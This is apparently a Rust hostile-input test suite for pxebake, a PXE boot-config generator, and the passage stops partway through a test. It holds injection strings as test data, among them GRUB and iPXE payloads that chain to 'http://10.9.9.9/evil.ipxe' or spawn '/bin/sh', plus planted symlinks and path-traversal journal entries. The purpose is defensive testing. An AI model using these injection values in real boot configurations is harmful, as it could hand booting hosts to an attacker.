//! Hostile input (issue 17): values cannot inject boot-loader syntax, no input crashes or blows
//! up, nothing is silently skipped, and each wrong result found by attacking pxebake stays fixed.

mod common;

use std::fs;
use std::path::Path;
use std::process::Command;

use common::*;

fn build(dir: &Path) -> std::process::Output {
    run(dir, &["build", "--no-images", "--no-bootloaders"])
}

/// The example site with a global attribute `extra` spliced at the end of both kernel bootactions.
fn site_with_extra(extra: &str) -> tempfile::TempDir {
    let dir = example_site();
    let path = dir.path().join("inventory/site.yaml");
    let site = fs::read_to_string(&path).unwrap();
    let site = site
        .replace("console=ttyS0,115200n8\"", "console=ttyS0,115200n8 {{ attributes.extra }}\"")
        .replace("attributes:   ", &format!("attributes:\n  extra: {}\n  ", serde_json::to_string(extra).unwrap()));
    fs::write(&path, site).unwrap();
    dir
}

#[test]
fn bootloader_metacharacters_in_an_attribute_spliced_into_args_are_refused() {
    // (value, loader named in the message, character named)
    let cases = [
        ("console=tty0; }; menuentry \"x\" { linux /k init=/bin/sh", "GRUB", "`;`"),
        ("}", "GRUB", "`}`"),
        ("a=\"b", "GRUB", "`\"`"),
        ("a='b", "GRUB", "`'`"),
        ("x || y", "GRUB", "`|`"),
        ("x || y", "iPXE", "`||`"),
        ("x && y", "iPXE", "`&&`"),
        ("; chain http://10.9.9.9/evil.ipxe", "iPXE", "`;`"),
        ("mac=${net0/mac}", "GRUB", "`$`"),
        ("mac=${net0/mac}", "iPXE", "`${`"),
        ("#", "GRUB", "`#`"),
        ("#", "iPXE", "`#`"),
        ("a\\b", "GRUB", "`\\`"),
        ("a>b", "GRUB", "`>`"),
    ];
    for (value, loader, ch) in cases {
        let dir = site_with_extra(value);
        let site = fs::read_to_string(dir.path().join("inventory/site.yaml")).unwrap();
        let coreos = 1 + site.lines().position(|l| l.starts_with("  coreos:")).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{value}: {err}");
        // The bootaction's own line, the host, the loader and the character.
        let line = err
            .lines()
            .find(|l| {
                l.starts_with(&format!(
                    "error: inventory/site.yaml:{coreos}: bootaction `coreos` args rendered for host `backend-0-0`"
                ))
            })
            .unwrap_or_else(|| panic!("{value}: {err}"));
        assert!(line.contains(&format!("{loader}: ")) && line.contains(ch), "{value}: {line}");
        assert!(!dir.path().join("out").exists(), "nothing is written");
    }
}

#[test]
fn harmless_kernel_arguments_still_build() {
    let dir = site_with_extra("ip=dhcp rd.neednet=1 url=http://10.2.1.1/a?b=c,d:e/f+g%20 x=#y");
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
}

/// A user's own template that puts a value straight on the kernel line, past the args check.
#[test]
fn an_overridden_template_cannot_inject_either() {
    let dir = example_site();
    let grub = fs::read_to_string(dir.path().join("templates/grub-host.cfg")).unwrap();
    fs::write(
        dir.path().join("templates/grub-host.cfg"),
        grub.replace("{{ bootaction.args }}", "{{ bootaction.args }} {{ host.attributes.evil | default(value=\"\") }}"),
    )
    .unwrap();
    let ipxe = fs::read_to_string(dir.path().join("templates/ipxe-host.ipxe")).unwrap();
    fs::write(
        dir.path().join("templates/ipxe-host.ipxe"),
        ipxe.replace("{{ bootaction.args }}", "{{ bootaction.args }} {{ host.attributes.evil | default(value=\"\") }}"),
    )
    .unwrap();
    let hosts = fs::read_to_string(dir.path().join("inventory/hosts.yaml")).unwrap();
    let hosts = hosts.replacen(
        "  - name: backend-0-0\n",
        "  - name: backend-0-0\n    attributes: { evil: \"} ; chain http://10.9.9.9/x\" }\n",
        1,
    );
    fs::write(dir.path().join("inventory/hosts.yaml"), hosts).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("error: tftp/grub/grub.cfg-01-52-54-00-00-00-00:5: GRUB `linux` line: `}` carries `}`, which is GRUB script syntax"),
        "{err}"
    );
    assert!(
        err.contains(
            "error: http/ipxe/52-54-00-00-00-00.ipxe:3: iPXE `kernel` line: token `;` ends the command in iPXE"
        ),
        "{err}"
    );
    assert!(!err.contains("backend-0-1"), "only the hostile host is concerned: {err}");
}

/// Every GRUB config of the example site parses with GRUB's own script checker.
#[test]
fn every_generated_grub_config_passes_grub_script_check() {
    let checker = Command::new("grub-script-check").arg("--help").output();
    assert!(
        checker.is_ok(),
        "grub-script-check is missing: install Debian package grub-common (listed in .ci/run) to run this test"
    );
    let dir = example_site();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let grub_dir = dir.path().join("out/tftp/grub");
    let mut checked = 0;
    for e in fs::read_dir(&grub_dir).unwrap() {
        let path = e.unwrap().path();
        if !path.file_name().unwrap().to_string_lossy().starts_with("grub.cfg") {
            continue;
        }
        let o = Command::new("grub-script-check").arg(&path).output().unwrap();
        assert!(o.status.success(), "{}: {}{}", path.display(), stderr(&o), stdout(&o));
        checked += 1;
    }
    assert!(checked >= 9, "site config and two names per PXE host: {checked}");
}

/// iPXE's own rules (src/core/exec.c): white-space tokens; `||`, `&&`, `;` end a command; a token
/// starting with `#` is a comment. Written here independently of pxebake's checker.
fn ipxe_commands(text: &str) -> Vec<Vec<String>> {
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("#!ipxe"), "{text}");
    let mut commands = Vec::new();
    for line in lines {
        let mut current: Vec<String> = Vec::new();
        for token in line.split_whitespace() {
            if token.starts_with('#') {
                break;
            }
            if matches!(token, "||" | "&&" | ";") {
                commands.push(std::mem::take(&mut current));
                continue;
            }
            current.push(token.to_string());
        }
        if !current.is_empty() {
            commands.push(current);
        }
    }
    commands
}

#[test]
fn every_generated_ipxe_script_has_one_command_per_value_line() {
    let dir = example_site();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let mut checked = 0;
    for e in fs::read_dir(dir.path().join("out/http/ipxe")).unwrap() {
        let path = e.unwrap().path();
        let text = fs::read_to_string(&path).unwrap();
        let commands = ipxe_commands(&text);
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name == "boot.ipxe" || name == "default.ipxe" {
            continue; // site scripts without values
        }
        // A host script: exactly `kernel URL args...`, `initrd URL`, `boot` - or `exit`.
        let verbs: Vec<&str> = commands.iter().map(|c| c[0].as_str()).collect();
        assert!(verbs == ["kernel", "initrd", "boot"] || verbs == ["exit"], "{name}: {verbs:?}");
        for c in &commands {
            for arg in &c[1..] {
                assert!(!arg.contains("${"), "{name}: setting expansion in {arg}");
            }
        }
        checked += 1;
    }
    assert!(checked >= 4, "{checked}");
}

fn mkfifo(path: &Path) {
    let o = Command::new("mkfifo").arg(path).output().unwrap();
    assert!(o.status.success(), "mkfifo: {}", stderr(&o));
}

/// Runs `check` with a timeout: a FIFO must not make pxebake wait forever.
fn check_within(dir: &Path, secs: u64) -> std::process::Output {
    run_within(dir, &["check"], secs)
}

/// Standard output is one JSON error object (`--output json`) for invalid input, saying `what`.
fn assert_json_error(o: &std::process::Output, what: &str) {
    let json: serde_json::Value = serde_json::from_str(stdout(o).trim()).expect("one JSON error object on stdout");
    assert_eq!((json["ok"].as_bool(), json["exit"].as_i64()), (Some(false), Some(2)), "{json}");
    assert!(json["error"].as_str().unwrap_or_default().contains(what), "{json}");
}

fn run_within(dir: &Path, args: &[&str], secs: u64) -> std::process::Output {
    let mut child = bin()
        .current_dir(dir)
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed().as_secs() > secs {
            child.kill().unwrap();
            panic!("pxebake hung for {secs} s");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

#[test]
fn unreadable_inventory_entries_are_errors_not_skipped() {
    let dir = example_site();
    let inv = dir.path().join("inventory");
    std::os::unix::fs::symlink("/mnt/unmounted-share/rack1.yaml", inv.join("rack1.yaml")).unwrap();
    std::os::unix::fs::symlink("loop-b.yaml", inv.join("loop-a.yaml")).unwrap();
    std::os::unix::fs::symlink("loop-a.yaml", inv.join("loop-b.yaml")).unwrap();
    mkfifo(&inv.join("rack2.yaml"));
    fs::create_dir(inv.join("rack3.yaml")).unwrap();
    let o = check_within(dir.path(), 20);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(
            "error: inventory/rack1.yaml: inventory file is a symlink that does not resolve (dangling, or a link loop)"
        ),
        "{err}"
    );
    assert!(err.contains("error: inventory/loop-a.yaml: inventory file is a symlink that does not resolve"), "{err}");
    assert!(err.contains("error: inventory/loop-b.yaml: inventory file is a symlink that does not resolve"), "{err}");
    assert!(err.contains("error: inventory/rack2.yaml: inventory file is a FIFO, not a regular file"), "{err}");
    assert!(err.contains("error: inventory/rack3.yaml: inventory file is a directory, not a regular file"), "{err}");
}

#[test]
fn unreadable_template_entries_are_errors_and_a_fifo_does_not_hang() {
    let dir = example_site();
    let t = dir.path().join("templates");
    mkfifo(&t.join("pipe.cfg"));
    std::os::unix::fs::symlink("gone.cfg", t.join("dangling.cfg")).unwrap();
    let o = check_within(dir.path(), 20);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("error: templates/pipe.cfg: template is a FIFO, not a regular file"), "{err}");
    assert!(err.contains("error: templates/dangling.cfg: template is a symlink that does not resolve"), "{err}");
}

#[test]
fn a_missing_inventory_directory_exits_2() {
    let dir = tempfile::tempdir().unwrap();
    let o = run(dir.path(), &["check", "--inventory", "no-such-dir"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("error: no-such-dir: the inventory directory does not exist; pass --inventory DIR"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_utf8_byte_order_mark_is_accepted() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let text = fs::read_to_string(&p).unwrap();
    fs::write(&p, format!("\u{feff}{text}")).unwrap();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn invalid_utf8_is_reported_with_file_and_line_and_exits_2() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let mut bytes = fs::read(&p).unwrap();
    let at = bytes.windows(11).position(|w| w == b"backend-0-1").unwrap();
    bytes[at] = 0xe9;
    let line = 1 + bytes[..at].iter().filter(|b| **b == b'\n').count();
    fs::write(&p, bytes).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "error: inventory/hosts.yaml:{line}: inventory file invalid UTF-8 (byte 0xe9 at column 11)"
        )),
        "{err}"
    );
}

#[test]
fn a_template_may_include_or_extend_one_whose_name_sorts_after_it() {
    let dir = example_site();
    let t = dir.path().join("templates");
    fs::write(t.join("a-base.yaml"), "#cloud-config\n{% block body %}{% endblock body %}\n").unwrap();
    fs::write(
        t.join("cloud-config.yaml"),
        "{% extends \"z-layout.yaml\" %}{% block body %}hostname: {{ host.name }}\n{% include \"zz-keys.yaml\" %}{% endblock body %}",
    )
    .unwrap();
    fs::write(t.join("z-layout.yaml"), "#cloud-config\n{% block body %}{% endblock body %}\n").unwrap();
    fs::write(t.join("zz-keys.yaml"), "ssh_authorized_keys: {{ attributes.ssh_authorized_keys | json }}\n").unwrap();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let cc = fs::read_to_string(dir.path().join("out/http/coreos/backend-0-0.yaml")).unwrap();
    assert!(cc.starts_with("#cloud-config\nhostname: backend-0-0\nssh_authorized_keys: [\"ssh-ed25519 "), "{cc}");
}

#[test]
fn an_attributes_mapping_with_100000_keys_loads_in_linear_time() {
    let dir = example_site();
    let extra: String = (0..100_000).map(|i| format!("  key{i}: {i}\n")).collect();
    fs::write(dir.path().join("inventory/more.yaml"), format!("attributes:\n{extra}")).unwrap();
    // Quadratic duplicate detection took over 30 s here (timed in `make bench`, not here).
    let o = run(dir.path(), &["list", "host"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let dup = format!("attributes:\n{extra}  key7: again\n");
    fs::write(dir.path().join("inventory/more.yaml"), dup).unwrap();
    let o = run(dir.path(), &["list", "host"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("error: inventory/more.yaml:100002: duplicate key `key7`"), "{}", stderr(&o));
}

/// An 80,000-row hostfile: `n` hosts on the example's private network.
fn big_hostfile(n: usize) -> String {
    let mut s = String::from("NAME,APPLIANCE,MAC,NETWORK\n");
    for i in 0..n {
        s.push_str(&format!(
            "h{i},backend,52:54:01:{:02x}:{:02x}:{:02x},private\n",
            (i >> 16) & 255,
            (i >> 8) & 255,
            i & 255
        ));
    }
    s
}

#[test]
fn importing_an_80000_row_hostfile_works() {
    let dir = example_site();
    fs::write(dir.path().join("small.csv"), big_hostfile(20_000)).unwrap();
    fs::write(dir.path().join("big.csv"), big_hostfile(80_000)).unwrap();
    // The import was quadratic (80k rows: 25 s); its time is not asserted here (no timed tests).
    for (file, n) in [("small.csv", 20_000), ("big.csv", 80_000)] {
        let o = run(dir.path(), &["import", "hostfile", file]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(stdout(&o).matches("  - name: h").count(), n);
    }
}

#[test]
fn a_hostfile_name_with_newlines_cannot_inject_yaml() {
    let dir = example_site();
    let name = "x.csv\nbootactions:\n  evil: { localboot: 0 }\n#";
    fs::write(dir.path().join(name), "NAME,APPLIANCE,IP,MAC,NETWORK\nn1,backend,10.2.3.1,52:54:01:00:00:01,private\n")
        .unwrap();
    let o = run(dir.path(), &["import", "hostfile", name, "--out", "inventory/rack1.yaml"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let yaml = fs::read_to_string(dir.path().join("inventory/rack1.yaml")).unwrap();
    assert!(
        yaml.starts_with(
            "# Imported from x.csv\\nbootactions:\\n  evil: { localboot: 0 }\\n# by `pxebake import hostfile`"
        ),
        "{yaml}"
    );
    let o = run(dir.path(), &["list", "bootaction"]);
    assert!(!stdout(&o).contains("evil"), "{}", stdout(&o));
}

#[test]
fn a_mac_byte_with_a_plus_sign_is_rejected() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let hosts = fs::read_to_string(&p).unwrap().replace("52:54:00:00:00:01", "52:54:00:00:00:+f");
    fs::write(&p, hosts).unwrap();
    let o = build(dir.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("host `backend-0-1`: mac `52:54:00:00:00:+f` is not a MAC address"), "{}", stderr(&o));
}

#[test]
fn set_keeps_a_bootaction_named_null() {
    let dir = example_site();
    let p = dir.path().join("inventory/site.yaml");
    let site = fs::read_to_string(&p)
        .unwrap()
        .replace("  os:\n    localboot: 0\n", "  os:\n    localboot: 0\n  \"null\":\n    localboot: 1\n");
    fs::write(&p, site).unwrap();
    for args in [["set", "runaction", "backend-0-0", "null"], ["set", "boot", "backend-0-0", "os"]] {
        let o = run(dir.path(), &args);
        assert!(o.status.success(), "{}", stderr(&o));
    }
    let state = fs::read_to_string(dir.path().join("inventory/boot.yaml")).unwrap();
    assert!(state.contains("  backend-0-0: { boot: os, runaction: \"null\" }\n"), "{state}");
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let cfg = fs::read_to_string(dir.path().join("out/tftp/pxelinux.cfg/01-52-54-00-00-00-00")).unwrap();
    assert!(cfg.contains("LOCALBOOT 1"), "the change is not lost: {cfg}");
}

#[test]
fn host_names_dnsmasq_reads_as_keywords_are_refused() {
    for name in ["ignore", "infinite", "12h", "30m", "3600"] {
        let dir = example_site();
        let p = dir.path().join("inventory/hosts.yaml");
        let hosts = fs::read_to_string(&p).unwrap().replace("name: backend-0-1\n", &format!("name: \"{name}\"\n"));
        fs::write(&p, hosts).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{name}: {err}");
        assert!(
            err.contains(&format!("inventory/hosts.yaml:23: host name `{name}` would be read by dnsmasq as a")),
            "{name}: {err}"
        );
    }
}

#[test]
fn a_site_root_with_glob_characters_or_too_long_is_refused() {
    for (root, expected) in [
        ("/srv/*".to_string(), "must not contain glob characters (`*`, `?`, `[`, `]`): nginx expands them"),
        ("/srv/p?x".to_string(), "must not contain glob characters"),
        ("/srv/[ab]".to_string(), "must not contain glob characters"),
        (format!("/{}", "a".repeat(950)), "is 951 bytes long; at most 512 fit on a dnsmasq config line"),
    ] {
        let dir = example_site();
        let p = dir.path().join("inventory/site.yaml");
        let site = fs::read_to_string(&p).unwrap().replace("root: /srv/pxebake", &format!("root: \"{root}\""));
        fs::write(&p, site).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{root}: {err}");
        assert!(err.contains("inventory/site.yaml:7: site.root: ") && err.contains(expected), "{root}: {err}");
    }
}

#[test]
fn diff_does_not_follow_links_planted_in_out() {
    let dir = example_site();
    assert!(build(dir.path()).status.success());
    let secret = dir.path().join("secret.txt");
    fs::write(&secret, "root:SECRET-HASH:19000:0:99999:7:::\n").unwrap();
    let out = dir.path().join("out");
    let planted = out.join("http/coreos/backend-0-0.yaml");
    fs::remove_file(&planted).unwrap();
    std::os::unix::fs::symlink(&secret, &planted).unwrap();
    let zero = out.join("http/coreos/backend-0-1.yaml");
    fs::remove_file(&zero).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    // A planted directory link: the file behind it must not be read either.
    let elsewhere = dir.path().join("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    fs::write(elsewhere.join("backend-0-0.yaml"), "SECRET-THROUGH-DIR\n").unwrap();
    fs::rename(out.join("http/install"), dir.path().join("install-moved")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, out.join("http/install")).unwrap();

    let mut child = bin()
        .current_dir(dir.path())
        .args(["diff", "--no-bootloaders"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed().as_secs() > 20 {
            child.kill().unwrap();
            panic!("diff read a planted /dev/zero link");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let o = child.wait_with_output().unwrap();
    let text = format!("{}{}", stdout(&o), stderr(&o));
    assert!(!text.contains("SECRET"), "{text}");
    assert!(
        text.contains(&format!("changed: http/coreos/backend-0-0.yaml (was a symlink -> {})", secret.display())),
        "{text}"
    );
    assert!(text.contains("changed: http/coreos/backend-0-1.yaml (was a symlink -> /dev/zero)"), "{text}");
}

#[test]
fn a_planted_journal_is_replayed_only_inside_the_tree() {
    let dir = example_site();
    assert!(build(dir.path()).status.success());
    let victim = dir.path().join("victim.txt");
    fs::write(&victim, "keep me\n").unwrap();
    let journal = dir.path().join(".out.pxebake-journal");
    for planted in ["D ../victim.txt\n", "D /tmp/x\n", "D http/./../../victim.txt\n", "X http/a\n"] {
        fs::write(&journal, planted).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert!(!o.status.success(), "{planted}: {err}");
        assert!(
            err.contains("refusing to replay") && err.contains("pxebake writes no such journal"),
            "{planted}: {err}"
        );
        assert_eq!(fs::read_to_string(&victim).unwrap(), "keep me\n");
    }
    // Through a directory link planted in out/.
    std::os::unix::fs::symlink(dir.path(), dir.path().join("out/http/up")).unwrap();
    fs::write(&journal, "D http/up/victim.txt\n").unwrap();
    let err = stderr(&build(dir.path()));
    assert!(err.contains("goes through the symlink `http/up`"), "{err}");
    assert_eq!(fs::read_to_string(&victim).unwrap(), "keep me\n");
}

#[test]
fn messages_never_print_raw_escape_characters() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let hosts =
        fs::read_to_string(&p).unwrap().replacen("    rack: 0\n", "    \"\\e[31mevil\\r\": 1\n    rack: 0\n", 1);
    fs::write(&p, hosts).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\r'), "{err:?}");
    assert!(err.contains("unknown field `\\u{1b}[31mevil\\r`"), "{err}");
}

#[test]
fn parallel_set_runs_lose_no_update() {
    for trial in 0..3 {
        let dir = example_site();
        let children: Vec<_> = (0..5)
            .map(|i| {
                bin()
                    .current_dir(dir.path())
                    .args(["set", "boot", &format!("backend-0-{i}"), "os"])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        for c in children {
            let o = c.wait_with_output().unwrap();
            assert!(o.status.success(), "{}", stderr(&o));
        }
        let state = fs::read_to_string(dir.path().join("inventory/boot.yaml")).unwrap();
        for i in 0..5 {
            assert!(state.contains(&format!("  backend-0-{i}: os\n")), "trial {trial}: backend-0-{i} lost:\n{state}");
        }
    }
}

#[test]
fn a_kernel_cannot_take_a_bootloaders_name_even_without_bootloaders() {
    let dir = example_site();
    let p = dir.path().join("inventory/site.yaml");
    let site = fs::read_to_string(&p).unwrap().replacen("kernel: vmlinuz.coreos", "kernel: pxelinux.0", 1);
    fs::write(&p, site).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    let line = 1 + fs::read_to_string(&p).unwrap().lines().position(|l| l.contains("kernel: pxelinux.0")).unwrap();
    assert!(
        err.contains(&format!("inventory/site.yaml:{line}: bootaction `coreos`: kernel `pxelinux.0` is the name of a bootloader in tftp/; choose another name")),
        "{err}"
    );
}

/// Issue 17: `out/http/coreos` moved away and replaced by a symlink to its new place; the build
/// exited 0 reporting one removal, and the cloud-configs were gone from `out/`.
#[test]
fn a_directory_of_out_replaced_by_a_symlink_is_rebuilt_not_followed() {
    let dir = example_site();
    assert!(build(dir.path()).status.success());
    let out = dir.path().join("out");
    let moved = dir.path().join("coreos-moved");
    fs::rename(out.join("http/coreos"), &moved).unwrap();
    std::os::unix::fs::symlink(&moved, out.join("http/coreos")).unwrap();
    let moved_before = snapshot(&moved);
    // What a build would do is shown as changes, not as "unchanged" behind the link.
    let o = run(dir.path(), &["diff", "--no-images", "--no-bootloaders", "--exit-code"]);
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let coreos = out.join("http/coreos");
    assert!(fs::symlink_metadata(&coreos).unwrap().is_dir(), "the link is replaced by the directory");
    for h in 0..5 {
        let cc = fs::read_to_string(coreos.join(format!("backend-0-{h}.yaml"))).unwrap();
        assert!(cc.starts_with("#cloud-config\n"), "{cc}");
    }
    assert_eq!(snapshot(&moved), moved_before, "nothing is written behind the link");
    let o = run(dir.path(), &["diff", "--no-images", "--no-bootloaders", "--exit-code"]);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
}

/// Issue 17: a failed journal write left the temporaries, although the message said `out` was
/// left as it was. Here the journal's filesystem (beside `out/`) is full, `out/` itself is not.
#[test]
fn a_failed_journal_write_leaves_out_exactly_as_it_was() {
    let dir = example_site();
    let parent = dir.path().join("disk");
    fs::create_dir(&parent).unwrap();
    let _parent_fs = tmpfs(&parent, "1m");
    let out = parent.join("out");
    let out_arg = out.to_str().unwrap().to_string();
    let build_out = || run(dir.path(), &["build", "--no-images", "--no-bootloaders", "--out", &out_arg]);
    assert!(build_out().status.success());
    // `out/` moves to a filesystem of its own, with room.
    let saved = dir.path().join("saved");
    copy_dir(&out, &saved);
    let _out_fs = tmpfs(&out, "4m");
    copy_dir(&saved, &out);
    // The manifest and the stamp are made unremovable (so removing them frees no room), then the
    // parent is filled.
    for name in [".out.pxebake-manifest", ".out.pxebake-stamp"] {
        fs::remove_file(parent.join(name)).unwrap();
        fs::create_dir(parent.join(name)).unwrap();
    }
    // Nor the inventory cache (a file where its directory would be: no entries to remove).
    fs::remove_dir_all(parent.join(".out.pxebake-load")).unwrap();
    fs::write(parent.join(".out.pxebake-load"), "").unwrap();
    {
        use std::io::Write as _;
        let mut fill = fs::File::create(parent.join("fill")).unwrap();
        while fill.write_all(&[0u8; 4096]).is_ok() {}
    }
    let before = snapshot(&out);
    let p = dir.path().join("inventory/site.yaml");
    fs::write(&p, fs::read_to_string(&p).unwrap().replace("console=ttyS0", "console=ttyS1")).unwrap();
    let o = build_out();
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("cannot write the journal") && err.contains("was left as it was"), "{err}");
    // `snapshot` lists temporaries too: none may be left.
    assert_eq!(snapshot(&out), before);
    let names: Vec<String> =
        fs::read_dir(&parent).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert!(!names.iter().any(|n| n.contains("journal")), "{names:?}");
    drop(_out_fs);
}

fn https_site(dir: &Path, cert: Option<(&Path, &Path)>) {
    let p = dir.join("inventory/site.yaml");
    let mut site =
        fs::read_to_string(&p).unwrap().replace("http: http://10.2.1.1/install", "http: https://10.2.1.1/install");
    let root = dir.join("out");
    site = site.replace(
        "root: /srv/pxebake",
        &format!("root: {}\n  events_log: {}/events.log", root.display(), dir.display()),
    );
    if let Some((c, k)) = cert {
        site = site.replace(
            "site:\n",
            &format!("site:\n  tls_certificate: {}\n  tls_certificate_key: {}\n", c.display(), k.display()),
        );
    }
    fs::write(&p, site).unwrap();
}

/// Issue 17: an `https` site got a standalone nginx config that `nginx -t` rejects.
#[test]
fn an_https_site_gets_an_nginx_config_that_nginx_t_accepts() {
    let dir = example_site();
    let (cert, key) = (dir.path().join("cert.pem"), dir.path().join("key.pem"));
    let o = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=10.2.1.1", "-keyout"])
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .expect("openssl is missing: install Debian package openssl (listed in .ci/run)");
    assert!(o.status.success(), "{}", stderr(&o));
    https_site(dir.path(), Some((&cert, &key)));
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let conf = fs::read_to_string(dir.path().join("out/etc/nginx.conf")).unwrap();
    assert!(conf.contains(&format!("    ssl_certificate {};\n", cert.display())), "{conf}");
    let prefix = dir.path().join("nginx");
    fs::create_dir(&prefix).unwrap();
    let o = Command::new("nginx")
        .arg("-t")
        .arg("-p")
        .arg(&prefix)
        .args(["-e", "stderr", "-c"])
        .arg(dir.path().join("out/etc/nginx-standalone.conf"))
        .output()
        .expect("nginx is missing: install Debian package nginx (listed in .ci/run)");
    assert!(o.status.success(), "nginx -t: {}", stderr(&o));
}

#[test]
fn an_https_site_without_a_certificate_is_refused() {
    let dir = example_site();
    https_site(dir.path(), None);
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    for k in ["tls_certificate", "tls_certificate_key"] {
        assert!(
            err.contains(&format!("inventory/site.yaml:6: site.http: an https site needs site.{k} (a path on the boot server): nginx serves https only with a certificate")),
            "{err}"
        );
    }
    assert!(!dir.path().join("out").exists());
}

/// Issue 17: a template looping without writing was bounded only by Tera's limit on one `range`.
#[test]
fn nested_range_loops_that_write_nothing_end_in_a_clear_error() {
    let dir = example_site();
    fs::write(
        dir.path().join("templates/cloud-config.yaml"),
        "#cloud-config\n{% for i in range(end=100000) %}{% for j in range(end=100000) %}{% endfor %}{% endfor %}hostname: {{ host.name }}\n",
    )
    .unwrap();
    let o = check_within(dir.path(), 60);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("error: templates/cloud-config.yaml:2: rendering `cloud-config.yaml` for host `backend-0-0` (inventory/hosts.yaml:14): loops over `range` ran more than 1000000 times in one file; a template may loop at most that much per file (a runaway loop?)"),
        "{err}"
    );
}

/// A loop over data that writes nothing: no `range` to count, so the time bound's watchdog ends it.
#[test]
fn a_template_looping_over_data_without_writing_is_ended_with_a_clear_error() {
    let dir = example_site();
    let list: Vec<String> = (0..3000).map(|i| i.to_string()).collect();
    fs::write(dir.path().join("inventory/more.yaml"), format!("attributes:\n  many: [{}]\n", list.join(", "))).unwrap();
    fs::write(
        dir.path().join("templates/cloud-config.yaml"),
        "#cloud-config\n{% for a in attributes.many %}{% for b in attributes.many %}{% for c in attributes.many %}{% endfor %}{% endfor %}{% endfor %}\n",
    )
    .unwrap();
    let o = run_within(dir.path(), &["--output", "json", "check"], 60);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert_json_error(&o, "has run for over 15 s");
    assert!(
        err.contains("error: rendering `cloud-config.yaml` (templates/cloud-config.yaml) has run for over 15 s without finishing; a template may take at most 10 s per file (a runaway loop?); nothing was written"),
        "{err}"
    );
}

/// Held-out: a NUL byte ended the YAML parser's input silently: every host after it was dropped.
#[test]
fn a_nul_byte_in_an_inventory_file_is_an_error_not_the_end_of_the_file() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let hosts = fs::read_to_string(&p).unwrap().replacen("    cpus: 1\n", "    cpus: 1 # \0\n", 1);
    let line = 1 + hosts.lines().position(|l| l.contains('\0')).unwrap();
    fs::write(&p, hosts).unwrap();
    let o = run(dir.path(), &["list", "host"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "error: inventory/hosts.yaml:{line}: character U+0000 (`\\0`) at column 15 is not allowed in YAML"
        )),
        "{err}"
    );
}

/// Held-out: `<<: *base` became an attribute named `<<` (pxebake reads YAML 1.2), merging nothing.
#[test]
fn a_yaml_merge_key_in_the_inventory_is_an_error() {
    let dir = example_site();
